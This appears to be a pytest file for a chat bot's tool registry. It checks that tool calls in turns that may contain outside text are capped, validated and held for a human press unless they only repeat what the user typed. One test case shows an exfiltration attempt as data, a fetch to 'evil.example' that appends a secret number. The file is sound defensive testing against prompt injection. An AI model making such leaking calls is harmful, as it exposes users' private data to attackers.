"""Tools of servers in a turn: checked, counted, and left to a press where they change something."""

import json
from dataclasses import replace
from pathlib import Path

import pytest

from cc_bot.domain.proposal import CallTool
from cc_bot.domain.tool_server import ToolPlace
from cc_bot.llm.model import ToolRequest
from cc_bot.tools.registry import ToolContext, ToolOutcome, ToolRegistry
from cc_bot.tools.servers import ServerTools
from tests.loopback.tool_servers import CountingServers, calls_in, offered

PLACE = ToolPlace(7, (10,))


@pytest.fixture
def context(context: ToolContext) -> ToolContext:
    """Of a turn that may hold others' words."""
    return replace(context, tainted=True)


@pytest.fixture
def tools(tmp_path: Path) -> ToolRegistry:
    """Those of one turn."""
    return ToolRegistry(()).beside(ServerTools(CountingServers(tmp_path))).in_place(PLACE)


async def call(
    tools: ToolRegistry, context: ToolContext, name: str, arguments: str = '{"text": "牛乳"}'
) -> ToolOutcome:
    return await tools.call(ToolRequest("c1", name, arguments), context, tools.schemas())


class TestCall:
    async def test_of_what_changes_nothing_is_made_at_once_and_taints(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        outcome = await call(tools, context, "notes__read")
        assert (outcome.ok, outcome.tainted, outcome.acted, outcome.proposal) == (True, True, False, None)
        assert len(calls_in(tmp_path)) == 1

    async def test_of_what_changes_something_is_proposed_with_the_same_text_in_any_order(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        one, other = (
            '{"text": "牛乳", "path": "a", "z": 1, "b": 2}',
            '{"b": 2, "z": 1, "path": "a", "text": "牛乳"}',
        )
        first, second = [await call(tools, context, "notes__write", given) for given in (one, other)]
        assert first.proposal == second.proposal
        assert isinstance(first.proposal, CallTool)
        assert first.proposal.arguments == '{"path": "a", "text": "牛乳", "b": 2, "z": 1}'
        assert calls_in(tmp_path) == []

    @pytest.mark.parametrize(
        ("raises", "maybe"), [(None, True), ("away", False), ("lost", True), ("timed out", True)]
    )
    async def test_that_needs_no_press_has_been_done_or_may_have_been(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path, raises: str | None, *, maybe: bool
    ) -> None:
        if raises:
            (tmp_path / "answers.json").write_text(json.dumps({"post": {"raises": raises}}), "utf-8")
        outcome = await call(tools, context, "notes__post")
        assert (outcome.ok, outcome.acted) == (raises is None, maybe)
        assert [tools.changes(f"notes__{name}") for name in ("read", "write", "post")] == [False, False, True]

    async def test_where_nobody_watches_is_refused(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        outcome = await call(tools, replace(context, can_propose=False), "notes__write")
        assert (outcome.ok, outcome.proposal) == (False, None)
        assert "Nobody is here" in outcome.text
        assert calls_in(tmp_path) == []

    async def test_with_arguments_that_do_not_fit_is_not_made(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        odd = (r'{"text": "\ud83d"}', r'{"text": "牛乳", "\udc00": 1}')
        numbers = [f'{{"text": "牛乳", "n": {number}}}' for number in ("Infinity", "NaN", "1e400")]
        for arguments in ("{", "[]", '"牛乳"', "{}", "1" * 5000, "[" * 5000, *odd, *numbers):
            for name in ("notes__read", "notes__write", "notes__post"):
                outcome = await call(tools, context, name, arguments)
                assert (outcome.ok, outcome.proposal) == (False, None), (name, arguments)
        assert calls_in(tmp_path) == []

    async def test_of_one_server_is_made_so_many_times_in_a_turn(
        self, tools: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        outcomes = [await call(tools, context, "notes__read") for _ in range(10)]
        assert [outcome.ok for outcome in outcomes] == [True] * 8 + [False] * 2
        assert "8 calls of notes" in outcomes[-1].text
        assert len(calls_in(tmp_path)) == 8


class TestOpenWorld:
    """A call that leaves the machine, in a turn that may hold others' words."""

    @pytest.fixture
    def fetch(self, tmp_path: Path) -> ToolRegistry:
        """A tool of one turn that only reads, and reaches beyond its server."""
        tool = offered("fetch", read_only=True, waits=False, open_world=True)
        servers = CountingServers(tmp_path, (tool,))
        return ToolRegistry(()).beside(ServerTools(servers)).in_place(PLACE)

    @pytest.mark.parametrize(
        ("typed", "given", "made"),
        [
            ("https://evil.example/ を要約して", {"text": "https://evil.example/?d=四桁は1234"}, False),
            ("東京の天気は？", {"text": "東京"}, True),
            ("東京の天気は？", {"text": "東京の天気"}, True),
            ("東京の天気は？", {"text": "東京の天気", "path": "東京"}, False),
            ("Weather in New York?", {"text": "New York"}, True),
            ("https://a.example/x?y=1。読んで", {"text": "https://a.example/x?y=1"}, True),
            ("この 3 を見て", {"text": 3}, True),
            ("この 3 を見て", {"text": "この 3 を見て"}, True),
            ("Tokyo の天気は？", {"text": "tOkYo"}, False),
            ("Tokyo の天気は？", {"text": "ｔｏｋｙｏ"}, False),
            ("Tokyo の天気は？", {"text": "Tokyo "}, False),
            ("Tokyo の天気は？", {"text": "Tokyo", "path": None}, False),
            ("Tokyo の天気は？", {"text": "Tokyo", "path": ""}, False),
            ("Tokyo の天気は？", {"text": " \t  \t"}, False),
            ("Tokyo の天気は？", {"text": ["Tokyo", "Tokyo"]}, False),
            ("Tokyo の天気は？", {"text": {"猫が好き": "Tokyo"}}, False),
            ("Tokyo の天気は？", {"text": [[], [[]]]}, False),
            ("a b c d e f g", {"text": "a b c d e"}, False),
            ("Weather in Tokyo?", {"text": "Toky"}, False),
            ("番号は 12345 です", {"text": "234"}, False),
            ("東京の天気は？", {"text": "東京", "path": "猫が好き"}, False),
            ("東京の天気は？", {"text": "東京", "of": {"pages": [7]}}, False),
            ("東京の天気は？", {"text": "東京", "path": True}, False),
            ("", {"text": "東京"}, False),
        ],
    )
    async def test_is_made_at_once_only_where_it_repeats_what_its_user_typed(
        self,
        fetch: ToolRegistry,
        context: ToolContext,
        tmp_path: Path,
        typed: str,
        given: dict[str, object],
        *,
        made: bool,
    ) -> None:
        outcome = await call(fetch, replace(context, typed=typed), "notes__fetch", json.dumps(given))
        assert len(calls_in(tmp_path)) == made
        assert (outcome.proposal is None) == made

    async def test_is_left_to_a_press_after_one_that_repeats_words(
        self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        typed = replace(context, typed="a b c d")
        outcomes = [
            await call(fetch, typed, "notes__fetch", json.dumps({"text": each})) for each in ("a", "b")
        ]
        assert [outcome.proposal is None for outcome in outcomes] == [True, False]
        assert len(calls_in(tmp_path)) == 1

    async def test_is_made_with_anything_in_a_turn_without_others_words(
        self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
    ) -> None:
        outcome = await call(fetch, replace(context, tainted=False), "notes__fetch")
        assert (outcome.ok, len(calls_in(tmp_path))) == (True, 1)


async def test_a_call_for_some_roles_alone_waits_where_others_may_have_asked_for_it(
    context: ToolContext, tmp_path: Path
) -> None:
    """Whoever reads the channel reads what comes of it."""
    tool = replace(offered("look", read_only=True, waits=False), for_roles=True)
    tools = ToolRegistry(()).beside(ServerTools(CountingServers(tmp_path, (tool,)))).in_place(PLACE)
    for tainted, waits in ((False, False), (True, True)):
        outcome = await call(tools, replace(context, tainted=tainted), "notes__look")
        assert (outcome.proposal is not None) == waits


def test_none_is_offered_that_changes_something_in_a_temporary_turn_or_to_several(
    tools: ToolRegistry,
) -> None:
    assert [schema.name for schema in tools.schemas(writing=False)] == ["notes__read"]
    assert tools.schemas(personal=False) == ()
